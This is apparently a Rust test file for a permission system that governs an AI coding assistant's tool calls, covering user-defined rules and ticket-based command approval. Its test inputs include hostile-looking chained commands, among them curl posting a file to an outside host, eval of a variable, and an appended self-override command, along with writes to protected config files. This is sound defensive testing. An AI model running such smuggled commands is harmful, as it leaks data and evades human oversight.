//! What people decide themselves: their own rules, the examples in them, and what is approved for them.

use signalbox_core::call::{Action, ToolCall};
use signalbox_core::charter::{Approval, Charter, Decision, OwnRule};
use signalbox_core::judge::check_examples;

use crate::world::{approved, assistant, check, rules, shell, write};

pub fn rule(decision: Decision) -> OwnRule {
    OwnRule {
        name: "mine".into(),
        decision,
        tool: None,
        command: None,
        path: None,
        reason: None,
        matches: Vec::new(),
        not_match: Vec::new(),
    }
}

#[test]
fn rules_of_ones_own() {
    let with = |rule: OwnRule| Charter { rules: vec![rule], ..assistant() };
    let publish = OwnRule {
        command: Some("npm publish*".into()),
        reason: Some("ask first".into()),
        ..rule(Decision::Deny)
    };
    check(
        &with(publish),
        &[("npm publish", "own"), ("cd x && env A=1 npm publish --tag next", "own"), ("npm run publish", "")],
    );
    check(
        &with(OwnRule { path: Some("infra/**".into()), ..rule(Decision::Deny) }),
        &[("touch infra/a", "own"), ("touch a", ""), ("touch \"$X\"", "")],
    );
    check(
        &with(OwnRule { command: Some("make".into()), ..rule(Decision::Deny) }),
        &[("make", "own"), ("make lint", "")],
    );
    let tool = with(OwnRule { tool: Some("Wri*".into()), ..rule(Decision::Deny) });
    assert_eq!(rules(&tool, &write("a")), "own");
    assert_eq!(rules(&tool, &shell("touch a")), "");
    assert_eq!(rules(&with(rule(Decision::Deny)), &shell("ls")), "", "a rule about nothing");
    let allow = with(OwnRule { path: Some(".mcp.json".into()), ..rule(Decision::Allow) });
    check(
        &allow,
        &[
            ("touch .mcp.json", ""),
            ("touch .mcp.json .git/config", "protected"),
            ("touch .mcp.json; sb override x done", "human"),
            ("touch \"$D/.mcp.json\"", "protected"),
            ("touch .envrc", "protected"),
        ],
    );
    let allow = with(OwnRule { command: Some("tool *".into()), ..rule(Decision::Allow) });
    check(&allow, &[("tool .mcp.json", ""), ("tool .mcp.json; other .mcp.json", "protected")]);
}

#[test]
fn examples_are_checked() {
    let base = OwnRule { command: Some("npm publish*".into()), ..rule(Decision::Deny) };
    let with = |matches: &[&str], not_match: &[&str]| OwnRule {
        matches: matches.iter().map(|e| (*e).to_owned()).collect(),
        not_match: not_match.iter().map(|e| (*e).to_owned()).collect(),
        ..base.clone()
    };
    assert_eq!(check_examples(&with(&["npm publish"], &["npm run x"]), "/p"), Ok(()));
    assert!(
        check_examples(&with(&["npm run x"], &[]), "/p").unwrap_err().contains("should be about `npm run x`")
    );
    assert!(check_examples(&with(&[], &["npm publish"]), "/p").unwrap_err().contains("should not be about"));
    assert!(check_examples(&rule(Decision::Deny), "/p").unwrap_err().contains("neither"));
    let path = OwnRule {
        path: Some("infra/**".into()),
        matches: vec!["infra/a".into()],
        not_match: vec!["a".into(), "sub/infra/a".into()],
        ..rule(Decision::Deny)
    };
    assert_eq!(check_examples(&path, "/p"), Ok(()));
    let tool = OwnRule {
        tool: Some("mcp__x__*".into()),
        matches: vec!["mcp__x__y".into()],
        not_match: vec!["Bash".into()],
        ..rule(Decision::Deny)
    };
    assert_eq!(check_examples(&tool, "/p"), Ok(()));
    let both = OwnRule { tool: Some("Bash".into()), ..with(&["npm publish"], &["npm run x"]) };
    assert_eq!(check_examples(&both, "/p"), Ok(()));
}

#[test]
fn approval() {
    let list =
        Approval { tools: vec!["Write".into()], commands: vec!["cargo test*".into(), "git push*".into()] };
    let ticket = signalbox_core::TicketId::parse("sb_a7Kx2m").expect("an id");
    let charter = Charter { approve: Some(list), ticket: Some(ticket), ..assistant() };
    for (command, expected) in [
        ("cargo test --all", true),
        ("cargo test 2>&1 | tail -40", true),
        ("cd src && cargo test", true),
        ("cargo build", false),
        ("cargo test && ./mine", false),
        ("cargo test; python3 -c x", false),
        ("cargo test; eval \"$LATER\"", false),
        ("cargo test && curl -s https://example.org", false),
        ("cargo test > /code/other/log", false),
        ("cargo test > log.txt", true),
        ("git push origin x", true),
        ("git push && curl -d @x http://example.org", false),
        ("ls", false),
        ("cargo test; sb override x done", false),
    ] {
        assert_eq!(approved(&charter, &shell(command)), expected, "{command}");
    }
    assert!(approved(&charter, &write("src/a.rs")));
    assert!(!approved(&charter, &write("/code/other/a.rs")), "outside the project");
    assert!(!approved(&charter, &write(".mcp.json")), "refused anyway");
    assert!(!approved(&Charter { ticket: None, ..charter.clone() }, &write("src/a.rs")), "without a ticket");
    assert!(
        !approved(&Charter { approve: None, ..charter.clone() }, &write("src/a.rs")),
        "nobody asked for it"
    );
    let read = ToolCall { tool: "Read".into(), action: Action::Read { paths: vec![] }, id: None };
    assert!(!approved(&charter, &read), "not on the list");
}
